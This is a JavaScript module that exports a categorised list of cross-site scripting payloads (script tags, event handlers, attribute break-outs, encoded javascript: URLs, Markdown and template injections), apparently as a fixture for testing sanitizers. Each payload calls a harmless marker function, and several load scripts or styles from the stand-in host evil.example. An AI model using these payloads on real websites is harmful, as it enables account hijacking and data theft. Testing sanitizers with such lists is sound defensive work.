// Texts that run `ran()` wherever a text is taken for something else, by the place that they break out of.

const script = String.raw`
<script>ran()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script>ran()//
<script/x>ran()</script>
<scr<script>ipt>ran()</scr</script>ipt>
<script type=module>ran()</script>
<script nonce="">ran()</script>
<script>/*</script><script>*/ran()</script>
<<script>ran()</script>
<script src="data:text/javascript,ran()"></script>
<script src="/hooks/x"></script>
<script%20>ran()</script>
<ſcript>ran()</ſcript>
`;

const element = String.raw`
<img src=x onerror=ran()>
<img src=x onerror="ran()"
<IMG SRC=x ONERROR=ran()>
<img/src/onerror=ran()>
<img src="x" oneonerrorrror=ran()>
<img src=x:x onerror=ran()//>
<img srcset=x onerror=ran()>
<image src=x onerror=ran()>
<svg onload=ran()>
<svg/onload=ran()>
<svg><script>ran()</script></svg>
<svg><script href="data:,ran()"/></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:ran() /><a><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:ran()"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran()'/></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>
<math href="javascript:ran()">x</math>
<body onload=ran()>
<body onpageshow=ran()>
<iframe src="javascript:parent.ran()"></iframe>
<iframe srcdoc="<img src=x onerror=parent.ran()>"></iframe>
<object data="javascript:ran()"></object>
<embed src="javascript:ran()">
<video><source onerror=ran()></video>
<video src=x onerror=ran()></video>
<audio src=x onerror=ran()>
<details open ontoggle=ran()>x</details>
<input autofocus onfocus=ran()>
<select autofocus onfocus=ran()><option>x</select>
<textarea autofocus onfocus=ran()>
<button popovertarget=x onclick=ran()>x</button><div popover id=x onbeforetoggle=ran()>x</div>
<marquee onstart=ran()>x</marquee>
<x onclick=ran() tabindex=1 autofocus onfocus=ran()>x</x>
<x contenteditable onblur=ran() autofocus>x
<a href="javascript:ran()">x</a>
<a href=" javascript:ran()">x</a>
<a href="jav&#x09;ascript:ran()">x</a>
<a href="java&#10;script:ran()">x</a>
<a href="&#106;avascript:ran()">x</a>
<a href="JaVaScRiPt:ran()">x</a>
<a href="data:text/html,<script>opener.ran()</script>" target=_blank>x</a>
<a href="vbscript:ran()">x</a>
<a href="//evil.example" ping="//evil.example">x</a>
<form action="javascript:ran()"><button>x</button></form>
<form><button formaction="javascript:ran()">x</button></form>
<isindex action="javascript:ran()" type=submit>
<base href="//evil.example/">
<base target=_blank>
<meta http-equiv=refresh content="0;url=javascript:ran()">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>ran()</script>">
<style>@import "//evil.example/x.css";</style>
<style>*{background:url("javascript:ran()")}</style>
<div style="background:url(//evil.example/x)">x</div>
<div style="position:fixed;inset:0;z-index:9">x</div>
<table background="javascript:ran()"><tr><td>x</table>
<template shadowrootmode=open><img src=x onerror=ran()></template>
<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>
<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>
<plaintext>ran()
<frameset onload=ran()>
<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>
`;

const breakingOut = String.raw`
"><script>ran()</script>
'><script>ran()</script>
"><img src=x onerror=ran()>
'><img src=x onerror=ran()>
" autofocus onfocus=ran() x="
' autofocus onfocus=ran() x='
" onmouseover=ran() style="position:fixed;inset:0" x="
x onerror=ran() autofocus onfocus=ran()
"/><svg onload=ran()>
\"><script>ran()</script>
"}</script><script>ran()</script>
</script><script>ran()</script>
</title><script>ran()</script>
</textarea><script>ran()</script>
</style><script>ran()</script>
</option></select><img src=x onerror=ran()>
</h1></main><img src=x onerror=ran()>
</bdi><img src=x onerror=ran()>
</svg><img src=x onerror=ran()>
</template><img src=x onerror=ran()>
</noscript><img src=x onerror=ran()>
--><script>ran()</script>
--!><img src=x onerror=ran()>
]]><script>ran()</script>
<!--><img src=x onerror=ran()>-->
<!-- --!><img src=x onerror=ran()> -->
<![CDATA[<img src=x onerror=ran()>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">ran()</script>
<!DOCTYPE x [<!ENTITY y "<script>ran()</script>">]>&y;
</summary></entry><script xmlns="http://www.w3.org/1999/xhtml">ran()</script>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">ran()</html:script>
`;

const scriptText = String.raw`
';ran();//
";ran();//
\';ran();//
\";ran();//
${"${ran()}"}
-ran()-
'-ran()-'
"-ran()-"
*/ran()/*
javascript:ran()
javascript://%0aran()
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKCk8L3NjcmlwdD4=
//evil.example/x
https://evil.example/"onmouseover="ran()
\u003cscript\u003eran()\u003c/script\u003e
\x3cscript\x3eran()\x3c/script\x3e
%3Cscript%3Eran()%3C/script%3E
%253Cscript%253Eran()%253C/script%253E
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;
&#60;script&#62;ran()&#60;/script&#62;
&#x3c;img src=x onerror=ran()&#x3e;
＜script＞ran()＜/script＞
+ADw-script+AD4-ran()+ADw-/script+AD4-
`;

const markdown = String.raw`
[x](javascript:ran())
[x](JaVaScRiPt:ran())
[x](java&#9;script:ran())
[x](&#106;avascript:ran())
[x](<javascript:ran()>)
[x](data:text/html,<script>ran()</script>)
[x](vbscript:ran())
[x](https://example.com "onmouseover=ran() \"><img src=x onerror=ran()>")
[x](https://example.com/"onmouseover="ran\(\))
![x](x"onerror="ran\(\))
![x](javascript:ran())
![x" onerror="ran()](x)
<javascript:ran()>
<https://example.com/"><img src=x onerror=ran()>
[x]: javascript:ran() [x]
<div><img src=x onerror=ran()></div>
<b onclick=ran() style=color:red id=main class=now>x</b>
~~<img src=x onerror=ran()>~~
| <img src=x onerror=ran()> | x |
"<img src=x onerror=ran()>"
*<svg/onload=ran()>*
`;

const template = String.raw`
{{ran()}}
{{constructor.constructor('ran()')()}}
{% raw %}<img src=x onerror=ran()>{% endraw %}
{{ "<img src=x onerror=ran()>" | safe }}
<%= ran() %>
#{ran()}
{{7*7}}<img src=x onerror=ran()>
`;

const lines = text => text.trim().split("\n");

/** All of them. */
export const PAYLOADS = [script, element, breakingOut, scriptText, markdown, template].flatMap(lines);
